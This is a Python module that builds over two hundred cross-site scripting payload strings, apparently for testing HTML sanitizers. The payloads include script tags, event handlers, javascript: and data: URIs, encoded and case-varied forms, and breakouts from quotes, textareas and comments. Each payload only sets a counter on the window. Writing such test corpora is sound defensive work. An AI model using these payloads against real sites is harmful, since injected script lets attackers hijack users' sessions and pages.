"""Texts that would run where one were put into a page as it is: each sets a mark on the window when it does."""

from __future__ import annotations

MARK = "__ran"
_RUN = f"window.{MARK}=(window.{MARK}||0)+1"
_ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src='data:text/javascript,{run}'></script>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'>",
    '<img src="x" onerror="{run}"/>',
    "<IMG SRC=x oNeRrOr={run}>",
    "<img/src=x/onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{run}</script></svg>#x'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{bare}</script>'></iframe>",
    "<iframe src='javascript:parent.{bare}'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<style>@import 'javascript:{run}';</style>",
    "<link rel=stylesheet href='javascript:{run}'>",
    "<base href='javascript:{run}//'>",
    "<form action='javascript:{run}'><button autofocus>x</button></form>",
    "<a href='javascript:{run}'>x</a>",
    "<template><script>{run}</script></template>",
    "<dialog open onfocus={run} tabindex=1 autofocus>x</dialog>",
    "<p style='animation-name:x' onanimationstart={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
)
_BEFORE = ("", '">', "'>", "</textarea>", "</script>", "-->", "]]>")
_OTHERS = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
    '" onmouseover="{run}" autofocus onfocus="{run}" x="',
    "' onmouseover='{run}' autofocus onfocus='{run}' x='",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "`${{{run}}}`",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;img src=x onerror={run}&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "＜script＞{run}＜/script＞",
    "[x](javascript:{run})",
    'https://x.example/"onmouseover="{run}',
    "https://x.example/<script>{run}</script>",
)


def all_of_them() -> list[str]:
    """More than two hundred, each another."""
    made = [before + element for before in _BEFORE for element in _ELEMENTS]
    return [each.format(run=_RUN, bare=f"{MARK}=1") for each in (*made, *_OTHERS)]
